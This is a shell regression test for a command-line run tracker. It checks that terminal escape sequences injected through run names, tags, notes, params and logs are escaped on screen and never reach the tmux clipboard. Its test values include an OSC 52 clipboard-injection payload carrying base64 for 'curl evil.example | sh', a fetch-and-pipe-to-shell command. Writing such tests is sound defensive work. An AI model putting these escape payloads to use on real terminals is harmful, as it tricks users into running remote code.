#!/bin/sh
# No escape sequence reaches the terminal from the command line (issue 14,
# item 10).  A run named "x ESC ]52;c;… BEL" made `runlens ls` put
# "curl evil.example | sh" on the clipboard under tmux.  Here runs, tags,
# notes, params, metric and metadata keys and values, step tags and step
# output carry ESC, OSC 52, CSI, C1 (U+009B) and BEL, and every command a
# person reads is checked byte by byte: no C0 control but newline and tab,
# no DEL, no C1.  --json and --csv are for programs: they carry the bytes,
# escaped by their own rules.
. "${TESTS_SRCDIR:-$(dirname "$0")/..}/e2e/lib.sh"

ESC=$(printf '\033')
OSC52="${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==$(printf '\007')"
CSI="${ESC}[2J"
C1=$(printf '\302\233')31m # U+009B: CSI in one character
NAME="x$OSC52"

# safe WHAT FILE: FILE is what a terminal may be given
safe() {
	if python3 - "$2" <<'PY'; then pass; else fail "$1 writes control bytes: $(cat -v "$2" | head -c 400)"; fi
import sys
data = open(sys.argv[1], "rb").read()
try:
    text = data.decode("utf-8")
except UnicodeDecodeError as e:
    sys.exit("invalid UTF-8 at %d" % e.start)
bad = [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f]
sys.exit(1 if bad else 0)
PY
}

# look WHAT CMD...: run CMD (stdout and stderr apart), both safe
look() {
	what=$1; shift
	"$@" >"$T/.out" 2>"$T/.err"
	safe "$what (stdout)" "$T/.out"
	safe "$what (stderr)" "$T/.err"
	OUT=$(cat "$T/.out"); ERR=$(cat "$T/.err")
}

# on_tty FILE CMD...: run CMD on a pseudo-terminal, what it shows in FILE
on_tty() {
	file=$1; shift
	python3 - "$file" "$@" <<'PY'
import os, pty, sys
out = open(sys.argv[1], "wb")
pid, fd = pty.fork()
if pid == 0:
    os.execvp(sys.argv[2], sys.argv[2:])
while True:
    try:
        chunk = os.read(fd, 65536)
    except OSError:
        break
    if not chunk:
        break
    out.write(chunk)
os.waitpid(pid, 0)
PY
	# the terminal's own end of line
	python3 -c 'import sys; p = sys.argv[1]; d = open(p, "rb").read(); open(p, "wb").write(d.replace(b"\r\n", b"\n"))' "$file"

}

cat > p.json <<'J'
{"name": "esc", "params": {"p": "v\u001b]52;c;ZXZpbA==\u0007"},
 "steps": [
  {"name": "s", "tags": ["t\u001b[31m", "c1\u009b2J"],
   "run": "sh step.sh ${params.p}"}
 ]}
J
cat > step.sh <<'S'
printf 'out \033]52;c;ZXZpbA==\007 and \302\2332J and \033[5m\n'
printf 'err \033[31m red\n' >&2
runlens metric "$(printf 'k\033[31m')" 1
runlens metric "$(printf 'c1\302\233key')" 2
runlens meta "$(printf 'm\033]0;title\007')=$(printf '"v\302\2332J"')"
S
look "run (outcome line)" rl run p.json --name "$NAME" -t "t$CSI" -p "p=a${C1}b"
expect_contains "$OUT" 'x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07' "the run's name, escaped"
look "run" rl run p.json -p "p=second$ESC[1m"
look "tag" rl tag 1 "y$ESC[0m"
look "note" rl note 1 "note $C1 $OSC52"

look "ls" rl ls
expect_contains "$OUT" 'x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'
expect_contains "$OUT" 't\x1b[2J'
look "ls --where" rl ls --where "tag = t$CSI"
look "pipelines" rl pipelines
look "show" rl show 1
expect_contains "$OUT" 'note \xc2\x9b31m \x1b]52;c;'
expect_contains "$OUT" 'k\x1b[31m = 1'
expect_contains "$OUT" 'c1\xc2\x9bkey = 2'
look "show (the second run)" rl show 2
look "step" rl step 1 s
expect_contains "$OUT" 'm\x1b]0;title\x07 = "v\xc2\x9b2J"'
expect_contains "$OUT" 't\x1b[31m'
look "why" rl why 2 s
expect_contains "$OUT" 'second\x1b[1m'
look "compare" rl compare 2 1
expect_contains "$OUT" 'a\xc2\x9b31mb'
look "rerun --dry-run" rl rerun 1 --dry-run
rl stack register "odd" --artifact-store "$T/art${ESC}[7m" >/dev/null 2>&1
look "stack ls" rl stack ls
expect_contains "$OUT" 'art\x1b[7m'
mkdir -p "$T/cfg"
export XDG_CONFIG_HOME="$T/cfg"
rl secret set warehouse user=u >/dev/null
look "secret ls" rl secret ls

# ---- error lines quote what they were given: escaped too
look "show with an unknown run" rl show "nope$OSC52"
expect_contains "$ERR" "runlens: no run 'nope\\x1b]52"
look "step with an unknown step" rl step 1 "s$CSI"
expect_contains "$ERR" 's\x1b[2J'
look "logs with an unknown step" rl logs 1 "s$C1"
look "-p of an unknown param" rl run p.json -p "q$ESC[1m=1"
expect_contains "$ERR" 'q\x1b[1m'
look "secret set with an invalid name" rl secret set "w$OSC52" k=v
expect_contains "$ERR" "'w\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07' is not a valid secret name"
look "a --where on an unknown field" rl ls --where "x$ESC[1m = 1"

# ---- logs: raw to a pipe or a file, escaped on a terminal (C1 too)
rl logs 1 s --stdout > logs.raw
expect_eq "$(printf 'out \033]52;c;ZXZpbA==\007 and \302\2332J and \033[5m')" "$(cat logs.raw)" \
	"logs to a pipe: the bytes the step wrote"
on_tty logs.tty "$RUNLENS_BIN" logs 1 s
safe "logs on a terminal" logs.tty
expect_contains "$(cat logs.tty)" 'out \x1b]52;c;ZXZpbA==\x07 and \xc2\x9b2J and \x1b[5m'
expect_contains "$(cat logs.tty)" 'err \x1b[31m red'
on_tty show.tty "$RUNLENS_BIN" show 1
safe "show on a terminal" show.tty

# ---- the board of a run on a terminal
on_tty board.tty "$RUNLENS_BIN" run p.json --name "board$OSC52"
python3 - board.tty board.nocolor <<'PY'
import re, sys
data = open(sys.argv[1], "rb").read()
# the board's own sequences: cursor up, erase line, colours
data = re.sub(rb"\r|\x1b\[[0-9]*[AK]|\x1b\[[0-9;]*m", b"", data)
open(sys.argv[2], "wb").write(data)
PY
safe "run's board on a terminal (its own sequences aside)" board.nocolor

# ---- JSON and CSV carry the bytes, escaped by their own rules
expect_exit 0 rl ls --json
expect_contains "$OUT" '"name":	"x\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007"'
expect_eq "$NAME" "$(jget "$OUT" '[r["name"] for r in d["runs"] if r["id"] == 1][0]')" \
	"ls --json: the exact name"
expect_exit 0 rl show 1 --json
expect_eq "note $C1 $OSC52" "$(jget "$OUT" 'd["note"]')" "show --json: the exact note"
expect_eq "a${C1}b" "$(jget "$OUT" 'd["params"]["p"]')" "show --json: the exact param"
expect_exit 0 rl step 1 s --json
expect_eq "$(printf 'v\302\2332J')" "$(jget "$OUT" 'd["metadata"]["m\x1b]0;title\x07"]')" \
	"step --json: the exact metadata key and value"
rl ls --csv > ls.csv
if grep -q "\"$NAME\"" ls.csv; then pass; else fail "ls --csv: the name quoted, with its raw bytes: $(cat -v ls.csv)"; fi
expect_eq "$NAME" "$(python3 -c 'import csv,sys; print([r for r in csv.reader(open(sys.argv[1], newline="")) if r[0] == "1"][0][1])' ls.csv)" \
	"ls --csv: the exact name"
rl show 1 --csv > show.csv
expect_exit 0 rl compare 2 1 --csv --all
expect_contains "$OUT" "\"s.c1$(printf '\302\233')key\""

# ---- under tmux: the name of a run does not reach the clipboard
if command -v tmux >/dev/null 2>&1; then
	S="rl-escapes-$$"
	tmux -L "$S" -f /dev/null new-session -d -s keep -x 120 -y 20 'exec sleep 600'
	tmux -L "$S" set -s set-clipboard on
	tmux -L "$S" new-window -d -t keep -n ls \
		"RUNLENS_STORE='$RUNLENS_STORE' '$RUNLENS_BIN' ls; RUNLENS_STORE='$RUNLENS_STORE' '$RUNLENS_BIN' show 1; echo done-ls; sleep 600"
	i=0
	while [ $i -lt 100 ] && ! tmux -L "$S" capture-pane -p -t ls 2>/dev/null | grep -q done-ls; do
		sleep 0.1; i=$((i + 1))
	done
	expect_contains "$(tmux -L "$S" capture-pane -p -S -200 -t ls)" 'x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07' \
		"tmux shows the escaped name"
	expect_eq "" "$(tmux -L "$S" list-buffers 2>/dev/null)" "nothing reached tmux's clipboard"
	tmux -L "$S" kill-server 2>/dev/null
fi

done_testing
